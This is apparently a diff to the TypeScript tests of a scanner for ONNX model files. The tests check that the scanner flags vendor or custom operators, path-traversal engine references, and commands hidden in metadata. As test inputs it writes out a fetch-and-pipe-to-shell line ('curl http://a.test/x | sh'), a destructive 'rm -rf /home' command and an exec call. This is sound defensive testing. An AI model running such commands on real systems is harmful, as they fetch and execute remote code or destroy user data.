@@ -88,7 +88,7 @@ describe('ONNX', () => {
     ],
     [
       'a list of an attribute',
-      model(graph([node('X', [], ['w'], { attributes: [concat(field(1, 'value'), field(10, bad))] })])),
+      model(graph([node('Constant', [], ['w'], { attributes: [concat(field(1, 'value'), field(10, bad))] })])),
     ],
     [
       'a sub-graph',
@@ -205,6 +205,58 @@ describe('ONNX', () => {
   it('damage inside of one node does not hide the others', async () => {
     const broken = concat(field(4, 'Relu'), Uint8Array.from([0x0f, 0xff]));
     assert.deepEqual(await judge(model(graph([broken, relu], [bad]))), ['high onnx/external-data', ...damaged].sort());
+  });
+
+  it('operators: of the standard, of vendors, of nobody', async () => {
+    const of = (op: string, domain?: string) => judge(model(graph([node(op, ['x'], ['y'], domain ? { domain } : {})])));
+    assert.deepEqual(await of('GroupNormalization'), []);
+    assert.deepEqual(await of('LabelEncoder', 'ai.onnx.ml'), []);
+    assert.deepEqual(await of('EfficientNMS_TRT'), ['info onnx/vendor-operator']);
+    assert.deepEqual(await of('FusedMatMul', 'com.microsoft'), ['info onnx/vendor-operator']);
+    assert.deepEqual(await of('Conv', 'com.ms.internal.nhwc'), ['info onnx/vendor-operator']);
+    assert.deepEqual(await of('ATen', 'org.pytorch.aten'), ['info onnx/vendor-operator']);
+    assert.deepEqual(await of('Evil'), ['medium onnx/custom-operator']);
+    assert.deepEqual(await of('Evil', 'com.microsoft.evil'), ['medium onnx/custom-operator']);
+    assert.deepEqual(await of('Evil', 'local'), ['medium onnx/custom-operator']);
+  });
+
+  it('a compiled engine is loaded from a path as well', async () => {
+    const of = (path: string) => {
+      const attributes = [
+        concat(field(1, 'ep_cache_context'), field(4, path)),
+        concat(field(1, 'embed_mode'), number(3, 0)),
+      ];
+      return judge(model(graph([node('EPContext', ['x'], ['y'], { domain: 'com.microsoft', attributes })])));
+    };
+    assert.deepEqual(await of('../../engine.bin'), ['high onnx/external-data', 'info onnx/vendor-operator']);
+    assert.deepEqual(await of('model_qnn.bin'), ['info onnx/vendor-operator']);
+  });
+
+  it('commands in texts are told, words and methods are not', async () => {
+    const strings = (text: string) =>
+      model(
+        graph([
+          node('Constant', [], ['y'], {
+            attributes: [concat(field(1, 'value'), field(5, number(2, 8), field(6, 'the'), field(6, text)))],
+          }),
+        ]),
+      );
+    assert.deepEqual(await judge(strings('curl http://a.test/x | sh')), ['medium onnx/metadata-code']);
+    for (const text of ['eval(', 'import os', 'rm', 'exec', 'model.eval()'])
+      assert.deepEqual(await judge(strings(text)), []);
+    const entry = (value: string) => judge(model(graph([relu]), field(14, field(1, 'k'), field(2, value))));
+    assert.deepEqual(await entry('exec("x")'), ['medium onnx/metadata-code']);
+    assert.deepEqual(await entry('net = build().eval() # 32'), []);
+    const doc = (value: string) => judge(model(graph([relu]), field(6, value)));
+    assert.deepEqual(await doc('bash -c x; rm -rf /home'), ['medium onnx/metadata-code']);
+    assert.deepEqual(await doc('Traced with torch; run exec(x) to see.'), []);
+  });
+
+  it('fields that no model has hide nothing', async () => {
+    for (const name of ['m.onnx', 'm.bin'])
+      assert.deepEqual(await judge(concat(field(50, 'other'), model(graph([relu], [bad]))), name), [
+        'high onnx/external-data',
+      ]);
   });
 
   it('weights are skipped unread', async () => {
